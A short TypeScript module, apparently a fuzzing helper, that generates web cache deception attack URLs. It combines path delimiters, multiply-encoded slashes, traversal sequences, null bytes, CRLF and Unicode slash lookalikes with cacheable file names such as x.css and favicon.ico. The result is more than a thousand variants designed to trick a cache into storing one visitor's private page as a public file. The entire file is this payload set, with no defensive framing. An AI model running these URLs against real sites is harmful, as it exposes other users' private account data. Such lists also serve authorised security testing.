// Addresses by which a cache is made to take what is one visitor's own for a file that is everybody's (web cache deception).

/** What another server may take for the end of the path: delimiters, encoded once and more, dots, other scripts' slashes. */
const joints = [
  ...['/', '//', '/./', '/../recent/', '/..;/', '/%2e%2e/', '%2f', '%2F', '%252f', '%25252f'],
  ...[';', '%3b', ';a=b/', '?', '?/', '%3f', '%23', '%26', '%00', '%0a'],
  ...['%0d%0a', '%09', '%20', '%5c', '\\', '.', '!', '~', ':', ','],
  ...['&', '=', '@', '$', '*', '(', '%c0%af', '%ef%bc%8f', '%e2%81%84', '%e2%80%ae'],
];

/** What caches keep by its name, in spellings that not all of them read alike. */
const files = [
  ...['x.css', 'x.js', 'x.png', 'x.ico', 'x.svg', 'x.woff2', 'x.html', 'x.json'],
  ...['x.CSS', 'X.Png', 'x.css.', 'x.css/', 'x%2ecss', 'x.%63ss', '.css', 'x.css%00'],
  ...['x.css?v=1', 'x.css;v=1', 'robots.txt', '..%2f..%2fassets%2fmain.js', 'a/b/c.js', '%F0%9F%98%80.png'],
  ...['words/dog', 'favicon.ico', ''],
];

/** An address and each joint with each file: a thousand that are not the same. */
export const deceptions = (path: string): string[] =>
  joints.flatMap((joint) => files.map((file) => `${path}${joint}${file}`));
